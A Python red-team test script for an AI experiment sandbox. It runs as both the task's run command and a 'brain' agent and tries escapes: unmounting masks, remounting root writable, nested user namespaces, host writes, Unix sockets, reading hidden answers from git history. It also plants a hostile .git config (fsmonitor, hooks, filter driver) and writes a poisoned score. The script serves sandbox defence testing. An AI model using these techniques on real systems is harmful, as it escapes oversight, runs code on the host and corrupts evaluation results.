"""What sandboxed code tries, as an attacker would: run as the task's run command (`python attacks.py run`)
and as a command brain (`python attacks.py brain`). Standard library only; the targets come from
`redteam.json` beside it (written by the driver, committed with the task).

Every attack prints one line `REDTEAM {"case": ..., "escaped": bool, "detail": ...}`: `escaped` is what the
attacker got, judged here where it happened; the test also checks the host side (marker files, the
secret's text in anything labmind recorded). A run then prints its metric; a brain writes its idea, with
whatever hidden data it found in the title (the leak the issue describes), and changes train.py.
"""

from __future__ import annotations

import glob
import json
import os
import socket
import subprocess
import sys
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
CONFIG = json.loads((HERE / "redteam.json").read_text())
FOUND: list[str] = []  # hidden-data text this process managed to read


def report(case: str, escaped: bool, detail: str = "") -> None:
    print("REDTEAM " + json.dumps({"case": case, "escaped": bool(escaped), "detail": detail[:300]}), flush=True)


def sh(command: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["sh", "-c", command], capture_output=True, text=True, timeout=30, check=False)


# -------------------------------------------------------------------------- class 2: capabilities


def capabilities() -> None:
    fields = {}
    for line in Path("/proc/self/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key.startswith("Cap"):
            fields[key] = int(value.strip(), 16)
    kept = {k: hex(v) for k, v in fields.items() if v}
    report("caps_dropped", bool(kept), f"non-empty capability sets: {kept}" if kept else "all capability sets empty")


def unmount_masks() -> None:
    lab_dir = CONFIG["lab_dir"]
    result = sh(f"umount {lab_dir} 2>&1 || umount -l {lab_dir} 2>&1")
    store_visible = Path(CONFIG["store"]).exists()
    report("umount_mask", result.returncode == 0 or store_visible, result.stdout.strip())


def remount_root() -> None:
    result = sh("mount -o remount,rw / 2>&1 || mount -o remount,bind,rw / 2>&1")
    report("remount_root_rw", result.returncode == 0, result.stdout.strip())


def nested_namespace() -> None:
    # A user namespace of its own would hold capabilities there: enough to unmount what it can see?
    result = sh(f"unshare -Urm sh -c 'umount -l {CONFIG['lab_dir']}; cat {CONFIG['store']}' 2>&1 | head -c 200")
    report("nested_userns_unmount", "SQLite format" in result.stdout, result.stdout.strip()[:200])


def read_store() -> None:
    try:
        data = Path(CONFIG["store"]).read_bytes()[:16]
    except OSError as exc:
        report("read_store", False, str(exc))
        return
    report("read_store", data.startswith(b"SQLite format"), repr(data))


def write_host() -> None:
    target = Path(CONFIG["host_file"])
    try:
        target.write_text("escaped\n")
    except OSError as exc:
        report("write_host_file", False, str(exc))
        return
    report("write_host_file", True, f"wrote {target}")


# ------------------------------------------------------------------------------- class 3: sockets


def sockets() -> None:
    for path in CONFIG["sockets"]:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        try:
            s.connect(path)
            s.sendall(b"hello")
            reply = s.recv(100)
            report(f"socket {path.lstrip(chr(0))}", True, f"connected, reply {reply!r}")
        except OSError as exc:
            report(f"socket {path.lstrip(chr(0))}", False, str(exc))
        finally:
            s.close()


# --------------------------------------------------------------------------- class 4: hidden data


def _read(path: str) -> str | None:
    try:
        return Path(path).read_text(errors="replace")[:500]
    except OSError:
        return None


def hidden_data(role: str) -> None:
    rel = CONFIG["secret_rel"]
    tries = {
        "worktree copy": rel,
        "user's checkout": os.path.join(CONFIG["task_dir"], rel),
    }
    for name, path in tries.items():
        text = _read(path)
        if text and text.strip():
            FOUND.append(text.strip())
        report(f"{role} reads hidden data ({name})", bool(text and text.strip()), (text or "")[:80])
    # The repository's history holds every committed file.
    git_dir = CONFIG["git_dir"]
    shown = sh(f"git --git-dir={git_dir} show HEAD:{CONFIG['secret_repo_path']} 2>&1")
    got = shown.returncode == 0 and shown.stdout.strip()
    if got:
        FOUND.append(shown.stdout.strip())
    report(f"{role} reads hidden data (git history)", bool(got), shown.stdout.strip()[:80])
    blobs = []
    for obj in glob.glob(os.path.join(git_dir, "objects", "??", "*"))[:5000]:
        try:
            blobs.append(zlib.decompress(Path(obj).read_bytes()).decode("utf-8", "replace"))
        except (OSError, zlib.error):
            continue
    leaked = [b for b in blobs if "answer" in b.lower()]
    FOUND.extend(leaked)
    report(f"{role} reads hidden data (git objects)", bool(leaked), f"{len(blobs)} objects readable")


# --------------------------------------------------------------------- class 1: repository metadata

FSMONITOR = """[core]
\tfsmonitor = "touch {mark}.fsmonitor; false"
\thooksPath = {hooks}
[filter "evil"]
\tclean = "touch {mark}.filter; cat"
"""


def replace_git_link(role: str) -> Path | None:
    """Replace the worktree's `.git` link by a repository directory whose config runs a command."""
    mark = CONFIG["mark"]
    worktree = Path(os.environ.get("LABMIND_WORKTREE", ".")).resolve()
    top = next((p for p in (worktree, *worktree.parents) if (p / ".git").exists()), worktree)
    link = top / ".git"
    try:
        if link.is_dir():
            raise OSError("the .git link is a directory already")
        link.unlink()
        link.mkdir()
        (link / "config").write_text(FSMONITOR.format(mark=mark, hooks=link / "hooks"))
        (link / "HEAD").write_text("ref: refs/heads/main\n")
        for sub in ("objects", "refs", "hooks"):
            (link / sub).mkdir(exist_ok=True)
        report(f"{role} replaces the worktree's .git link", True, f"replaced {link}")
        return top
    except OSError as exc:
        report(f"{role} replaces the worktree's .git link", False, str(exc))
        return None


def git_metadata(role: str) -> None:
    """Everything host-side git could be made to run: a hostile `.git` directory with fsmonitor, hooks and a
    filter driver, attributes naming the filter, and a nested repository with its own fsmonitor. Whether
    any of it ran shows on the host, as marker files."""
    mark = CONFIG["mark"]
    top = replace_git_link(role)
    if top is None:
        return
    for hook in ("post-commit", "pre-commit", "post-checkout", "reference-transaction", "post-index-change"):
        (top / ".git" / "hooks" / hook).write_text(f"#!/bin/sh\ntouch {mark}.hook\n")
        (top / ".git" / "hooks" / hook).chmod(0o755)
    (top / ".gitattributes").write_text("* filter=evil diff=evil\n")
    nested = top / "nested"
    # (fsmonitor is set last: git commands of the brain's own would run it, and that is not an escape)
    sh(f"git init -q {nested} && echo x > {nested}/f && git -C {nested} add f && "
       f"git -C {nested} config core.fsmonitor 'touch {mark}.nested; false'")
    # A redirecting link: a `.git` file naming another hostile directory.
    evil = top / "evil-git"
    evil.mkdir(exist_ok=True)
    (evil / "config").write_text(FSMONITOR.format(mark=mark + "-redirect", hooks=evil))
    (top / "sub").mkdir(exist_ok=True)
    (top / "sub" / ".git").write_text(f"gitdir: {evil}\n")


# ------------------------------------------------------------------------------------------ main


def main(role: str) -> None:
    if role == "run":
        capabilities()
        unmount_masks()
        remount_root()
        nested_namespace()
        read_store()
        write_host()
        sockets()
        hidden_data("run")
        try:
            Path(".git").write_text("gitdir: /tmp/evil\n")
            report("run rewrites the worktree's .git link", True, "written")
        except OSError as exc:
            report("run rewrites the worktree's .git link", False, str(exc))
        seed = int(os.environ.get("SEED", "0"))
        print(f"score: {1.0 + (seed % 7) * 0.01}")
        return
    if role == "brain-git":  # without a sandbox: only labmind's own git calls stand between this and the host
        git_metadata(role)
        Path("train.py").write_text("print('score: 0.5')\n")
        return
    capabilities()
    read_store()
    sockets()
    hidden_data("brain")
    replace_git_link("brain")
    # The poison pill of class 5: a finite value no statistic can take.
    Path("train.py").write_text("print('score: -1e308')\n")
    title = "leak: " + " | ".join(FOUND)[:100] if FOUND else "print a huge metric"
    Path(os.environ["LABMIND_IDEA"]).write_text(json.dumps({"title": title, "hypothesis": " | ".join(FOUND)}))


if __name__ == "__main__":
    main(sys.argv[1])
